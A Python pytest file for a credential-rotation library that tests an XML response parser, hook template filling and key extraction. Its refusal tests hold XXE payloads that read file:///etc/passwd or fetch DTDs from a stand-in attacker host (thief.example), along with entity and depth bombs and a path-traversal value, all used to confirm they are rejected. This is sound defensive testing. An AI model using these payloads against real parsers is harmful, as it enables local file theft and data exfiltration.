"""Hooks are filled, and their answers read, without a byte taken for what it is not."""

from __future__ import annotations

import base64
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tidegate.credentials.hooks import (
    UnknownValueError,
    UnreadableError,
    fill,
    read_keys,
    read_new,
)
from tidegate.credentials.xml_answers import DEPTH_MAX, ELEMENTS_MAX, XmlRefusedError, read_xml
from tidegate.domain.rotation import CreateHook, Hook, JsonText, ListHook, NewField

LIST = ListHook(Hook("POST", "/", answer="xml"), "/R/Keys", "/Id")


def test_an_answer_in_xml_reads_like_one_in_json():
    body = b"""<?xml version="1.0"?>
    <R xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><Keys>
      <member><Id>AK1</Id></member><member><Id>AK2</Id></member></Keys><N a="b">1 &amp; 2</N></R>"""
    assert read_xml(body) == {"R": {"Keys": [{"Id": "AK1"}, {"Id": "AK2"}], "N": "1 & 2"}}
    keys, more = read_keys(LIST, body)
    assert ([key.id for key in keys], more) == (["AK1", "AK2"], ())


@pytest.mark.parametrize(
    ("keys", "found"),
    [("<Keys/>", []), ("<Keys> </Keys>", []), ("<Keys><member><Id>A</Id></member></Keys>", ["A"])],
)
def test_a_list_of_one_and_a_list_of_none_are_lists(keys: str, found: list[str]):
    listed, _ = read_keys(LIST, f"<R>{keys}</R>".encode())
    assert [key.id for key in listed] == found


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"<R>",
        b"<R/><R/>",
        b"{}",
        b"<R><A/>text</R>",
        b"<R><A>1</A><A>2</A></R>",
        b"<R><member/><A/><member/></R>",
        b"<!DOCTYPE R><R/>",
        b'<!DOCTYPE R [<!ENTITY a "b">]><R>&a;</R>',
        b'<!DOCTYPE R [<!ENTITY a SYSTEM "file:///etc/passwd">]><R>&a;</R>',
        b'<!DOCTYPE R SYSTEM "https://thief.example/x.dtd"><R/>',
        b'<!DOCTYPE R [<!ENTITY % p SYSTEM "https://thief.example/p"> %p;]><R/>',
        b"<R>&undefined;</R>",
        b"<R>\xff</R>",
        "<?xml version='1.0' encoding='utf-16'?><R/>".encode("utf-16"),
        b"<A>" * (DEPTH_MAX + 1) + b"</A>" * (DEPTH_MAX + 1),
        b"<R>" + b"<member/>" * ELEMENTS_MAX + b"</R>",
    ],
    ids=range(17),
)
def test_xml_that_asks_for_more_than_to_be_read_is_refused(body: bytes):
    with pytest.raises(XmlRefusedError) as refused:
        read_xml(body)
    assert "thief" not in str(refused.value)


def test_depth_and_length_are_read_up_to_their_bounds():
    assert read_xml(b"<A>" * DEPTH_MAX + b"</A>" * DEPTH_MAX)
    assert len(read_xml(b"<R>" + b"<member/>" * (ELEMENTS_MAX - 1) + b"</R>")["R"]) == (
        ELEMENTS_MAX - 1
    )


@given(st.binary(max_size=400) | st.text(alphabet="<>/!?&;[]'\"=RAm xD-%", max_size=120))
def test_no_bytes_are_read_as_anything_but_xml_or_refused(junk: bytes | str):
    body = junk if isinstance(junk, bytes) else junk.encode()
    try:
        document = read_xml(body)
    except XmlRefusedError:
        return
    assert len(document) == 1
    assert b"<!" not in body.replace(b"<!--", b"").replace(b"<![CDATA[", b"")


def test_a_whole_document_fills_a_place_of_a_body():
    policies = JsonText('[{"effect": "allow", "n": 1}]')
    filled = fill(Hook("POST", "/t", body='{"p": "{p}", "n": "{n}"}'), {"p": policies, "n": "x"})
    assert json.loads(filled.body) == {"p": [{"effect": "allow", "n": 1}], "n": "x"}


def test_a_value_that_is_not_known_is_no_empty_text():
    with pytest.raises(UnknownValueError, match="old_id"):
        fill(Hook("PUT", "/t/{old_id}"), {"name": "n"})


def test_a_value_stays_within_its_part_of_a_path():
    filled = fill(Hook("DELETE", "/keys/{id}"), {"id": "../../admin?x=1#y"})
    assert filled.path == "/keys/..%2F..%2Fadmin%3Fx%3D1%23y"


def test_a_field_within_an_encoded_document_is_found():
    file = base64.b64encode(json.dumps({"private_key": "pem", "id": "k1"}).encode()).decode()
    create = CreateHook(
        Hook("POST", "/k"),
        (NewField("key", "/data", "base64", "/private_key"),),
        "/name",
    )
    body = json.dumps({"name": "projects/p/keys/k1", "data": file}).encode()
    fields, key_id = read_new(create, body, "projects/[^/]+/keys/([a-z0-9]+)")
    assert (fields["key"].reveal(), key_id) == (b"pem", "k1")
    for wrong in (b'{"name": "projects/p/k1"', json.dumps({"name": "n", "data": file}).encode()):
        with pytest.raises(UnreadableError):
            read_new(create, wrong, "projects/[^/]+/keys/([a-z0-9]+)")


def test_a_next_page_is_asked_for_by_its_query_alone():
    listing = ListHook(Hook("GET", "/k"), "/keys", "/id", next_at="/next")
    body = b'{"keys": [{"id": "a"}], "next": "https://thief.example/else?Page=1&Token=t%20u"}'
    _, more = read_keys(listing, body)
    assert more == (("Page", "1"), ("Token", "t u"))
    filled = fill(Hook("GET", "/k", query=(("Page", "0"), ("Size", "5"))), {}, more)
    assert (filled.path, filled.query) == ("/k", "Size=5&Page=1&Token=t+u")
